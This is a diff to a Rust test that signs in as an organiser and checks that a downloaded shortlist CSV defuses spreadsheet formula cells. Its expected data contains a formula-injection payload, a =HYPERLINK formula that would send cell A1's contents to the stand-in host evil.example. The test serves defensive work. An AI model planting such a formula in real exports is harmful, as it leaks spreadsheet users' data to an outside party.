@@ -173,6 +173,33 @@ fn csv_exports_defuse_formula_cells() {
             }
         }
     }
+
+    // The organiser page's download is the same CSV.
+    let organiser = f.organiser_token();
+    let server = f.serve();
+    let http = reqwest::blocking::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
+    let csrf = format!("pmc_{}", "cd".repeat(32));
+    let res = http
+        .post(url(&server, "/organiser/sign-in"))
+        .header("cookie", format!("pm_csrf={csrf}"))
+        .form(&[("csrf", csrf.as_str()), ("token", organiser.as_str())])
+        .send()
+        .unwrap();
+    assert_eq!(res.status().as_u16(), 303);
+    let session = res
+        .headers()
+        .get_all("set-cookie")
+        .iter()
+        .filter_map(|v| v.to_str().ok()?.split(';').next().map(str::to_string))
+        .find(|c| c.starts_with("pm_session="))
+        .expect("session cookie");
+    let res = http.get(url(&server, "/organiser/demands/d-h2/shortlist.csv")).header("cookie", session).send().unwrap();
+    assert_eq!(res.status().as_u16(), 200);
+    let body = res.text().unwrap();
+    let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+    let names: Vec<String> = reader.records().map(|r| r.expect("csv row")[4].to_string()).collect();
+    assert!(names.contains(&"'=HYPERLINK(\"https://evil.example/?\"&A1,\"Tankwerk\")".to_string()), "{body}");
+    assert!(names.iter().all(|n| !n.starts_with(['=', '@'])), "{body}");
 }
 
 // ------------------------------------------------------------------------------------------------
